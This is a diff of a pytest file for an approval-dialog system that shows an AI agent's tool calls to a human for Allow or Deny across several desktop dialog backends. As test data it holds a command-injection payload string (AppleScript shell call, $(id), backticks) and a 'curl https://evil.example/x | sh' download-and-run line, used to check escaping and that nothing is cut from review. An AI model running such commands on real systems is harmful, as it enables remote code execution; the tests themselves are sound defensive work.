@@ -13,12 +13,28 @@ from pathlib import Path
 import psutil
 import pytest
 
-from aip.approver.dialogs.base import Answer, Prompt, gui_env
+from aip.approver.dialogs.base import Answer, Prompt, TextTooLarge, gui_env
 from aip.approver.dialogs.choose import choose
 from aip.approver.dialogs.exec_program import ExecProgram
-from aip.approver.dialogs.gui import Kdialog, Xdialog, Zenity
-from aip.approver.dialogs.native import OSA_SCRIPT, POWERSHELL_SCRIPT, Osascript, PowerShell
-from aip.approver.dialogs.render import DialogFacts, dialog_text
+from aip.approver.dialogs.gui import (
+    KDIALOG_FIT,
+    READ_ALL_CHECKBOX,
+    XDIALOG_FIT,
+    XDIALOG_TEXT_MAX,
+    ZENITY_FIT,
+    Kdialog,
+    Xdialog,
+    Zenity,
+)
+from aip.approver.dialogs.native import (
+    OSA_SCRIPT,
+    OSASCRIPT_FIT,
+    POWERSHELL_FIT,
+    POWERSHELL_SCRIPT,
+    Osascript,
+    PowerShell,
+)
+from aip.approver.dialogs.render import WHOLE, DialogFacts, Fit, display_arguments, render
 from aip.approver.dialogs.terminal import Terminal
 from aip.shared.errors import ConfigError
 from aip.shared.outcomes import Outcome
@@ -27,22 +43,82 @@ from tests.support.approverproc import answer_program
 PAYLOAD = '"& do shell script "touch /tmp/pwn" <b>x</b> & \\n $(id) `id` %PATH% \''
 
 
-def _prompt(value: str = PAYLOAD, seconds: int = 30) -> Prompt:
-    args = {"path": value}
-    text = dialog_text(DialogFacts("write_file", "agent-1", "fs", "r", 1, seconds, 0), args)
+def _prompt(value: str = PAYLOAD, seconds: int = 30, fit: Fit = WHOLE, **more: str) -> Prompt:
+    args = {"path": value, **more}
+    shown = render(DialogFacts("write_file", "agent-1", "fs", "r", 1, seconds, 0), args, fit)
     return Prompt(
-        1, "agent-1", "fs", "write_file", {"path": json.dumps(value)}, text, "r", seconds, 0
+        1,
+        "agent-1",
+        "fs",
+        "write_file",
+        display_arguments(args),
+        shown.text,
+        "r",
+        seconds,
+        0,
+        scroll=shown.scroll,
+        withheld=shown.withheld,
     )
 
 
 def test_zenity_command_line() -> None:
-    prompt = _prompt()
+    prompt = _prompt(fit=ZENITY_FIT)
     argv = Zenity("/usr/bin/zenity").argv(prompt)
     assert argv[:4] == ["/usr/bin/zenity", "--question", "--no-markup", "--default-cancel"]
     assert argv[argv.index("--title") + 1] == "Agent Identity Protocol"
     assert argv[argv.index("--ok-label") + 1] == "Allow"
     assert argv[argv.index("--cancel-label") + 1] == "Deny"
     assert argv[-2:] == ["--text", prompt.text]
+
+
+async def test_zenity_shows_a_long_request_whole_in_a_scrolling_view(tmp_path: Path) -> None:
+    """Over 20 lines: ``--text-info`` with the text on stdin (never argv, never cut) and
+    Allow enabled only by ticking the box; run through a stand-in zenity that records."""
+    content = "A" * 200_000 + "; curl https://evil.example/x | sh"
+    prompt = _prompt(fit=ZENITY_FIT, content=content)
+    assert prompt.scroll
+    fake = tmp_path / "zenity"
+    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path}/argv\ncat > {tmp_path}/stdin\n')
+    fake.chmod(0o755)
+    assert await Zenity(str(fake)).show(prompt) is Answer.ALLOW
+    argv = (tmp_path / "argv").read_text().splitlines()
+    assert argv[0] == "--text-info"
+    assert argv[argv.index("--checkbox") + 1] == READ_ALL_CHECKBOX
+    assert "--text" not in argv
+    assert sum(len(a) for a in argv) < 300
+    shown = (tmp_path / "stdin").read_text()
+    assert shown == prompt.text
+    assert content in shown.replace("\n    ", "")  # the whole value, unwrapped
+
+
+def test_withheld_prompts_offer_only_deny() -> None:
+    content = "B" * 5000
+    zenity = Zenity("/usr/bin/zenity").argv(_prompt(fit=KDIALOG_FIT, content=content))
+    assert zenity[:2] == ["/usr/bin/zenity", "--warning"]
+    assert "Allow" not in zenity
+    kdialog = Kdialog("/usr/bin/kdialog").argv(_prompt(fit=KDIALOG_FIT, content=content))
+    assert kdialog[3:6] == ["--ok-label", "Deny", "--error"]
+    assert "allow" not in kdialog
+    xdialog = Xdialog("/usr/bin/Xdialog").argv(_prompt(fit=XDIALOG_FIT, content=content))
+    assert "--msgbox" in xdialog
+    assert "--yesno" not in xdialog
+    assert "Allow" not in xdialog
+    osa = Osascript().argv(_prompt(fit=OSASCRIPT_FIT, content=content))
+    assert osa[-1] == "deny-only"
+    ps = json.loads(PowerShell("ps.exe").stdin(_prompt(fit=POWERSHELL_FIT, content=content)))
+    assert ps["withheld"].startswith("too large to review")
+    assert "$allow.Visible = $false" in POWERSHELL_SCRIPT
+
+
+def test_backends_refuse_text_over_their_limit_instead_of_cutting_it() -> None:
+    too_long = _prompt(content="C" * 5000)  # rendered whole, for an unlimited backend
+    for backend in (Zenity("/z"), Kdialog("/k"), Xdialog("/x")):
+        with pytest.raises(TextTooLarge):
+            backend.argv(too_long)
+    with pytest.raises(TextTooLarge):
+        Osascript().argv(too_long)
+    with pytest.raises(TextTooLarge):
+        PowerShell("ps.exe").stdin(too_long)
 
 
 def test_kdialog_command_line_is_fully_escaped_rich_text_with_deny_preselected() -> None:
@@ -59,22 +135,36 @@ def test_kdialog_command_line_is_fully_escaped_rich_text_with_deny_preselected()
     assert argv[-6:] == ["deny", "Deny", "on", "allow", "Allow", "off"]
 
 
-def test_xdialog_text_is_capped_and_has_no_backslash() -> None:
-    prompt = _prompt("x\\n" + "A" * 3000 + "TAIL-VISIBLE")
+@pytest.mark.parametrize(
+    "more",
+    [
+        {},
+        {"content": "x\\n" + "A" * 3000 + "TAIL-VISIBLE"},
+        {f"k{i}": "\\" * 60 for i in range(12)},  # each backslash is 3 bytes in Xdialog
+        {"content": "\\" * 400},
+        {f"decoy{i}": "x" for i in range(12)} | {"content": "curl x | sh"},
+    ],
+)
+def test_xdialog_never_gets_more_than_its_limit_nor_a_backslash(more: dict[str, str]) -> None:
+    """Xdialog cuts its label at 2,048 bytes on its own; we give it at most 1,500, or
+    withhold Allow: it never drops a line of ours."""
+    prompt = _prompt(fit=XDIALOG_FIT, **more)
     argv = Xdialog("/usr/bin/Xdialog").argv(prompt)
-    text = argv[argv.index("--yesno") + 1]
+    text = argv[argv.index("--msgbox" if prompt.withheld else "--yesno") + 1]
     assert "\\" not in text
-    assert len(text.encode()) <= 1600
-    assert "TAIL-VISIBLE" in text
+    assert len(text.encode()) <= XDIALOG_TEXT_MAX
     assert text.endswith("(\uff3c = backslash)")
-    assert "--default-no" in argv
+    assert text.startswith("Agent: agent-1\nServer: fs\nRule: r\n")
+    if not prompt.withheld:
+        assert "--default-no" in argv
+        assert all(f"  {name}: " in text for name in ("path", *more))
 
 
 def test_osascript_script_is_constant_and_data_is_argv() -> None:
     prompt = _prompt()
     backend = Osascript()
     argv = backend.argv(prompt)
-    assert argv == ["/usr/bin/osascript", "-", prompt.text, "30"]
+    assert argv == ["/usr/bin/osascript", "-", prompt.text, "30", "ask"]
     assert "touch /tmp/pwn" not in OSA_SCRIPT
     assert 'default button "Deny"' in OSA_SCRIPT
     assert 'cancel button "Deny"' in OSA_SCRIPT
@@ -146,8 +236,10 @@ async def test_exec_program_contract(tmp_path: Path, monkeypatch: pytest.MonkeyP
         "rule",
         "seconds_left",
         "queue_position",
+        "withheld",
     }
-    assert request["text"].startswith("The agent wants to call:")
+    assert request["text"].startswith("Agent: agent-1\n")
+    assert request["withheld"] == ""
 
 
 @pytest.mark.parametrize(
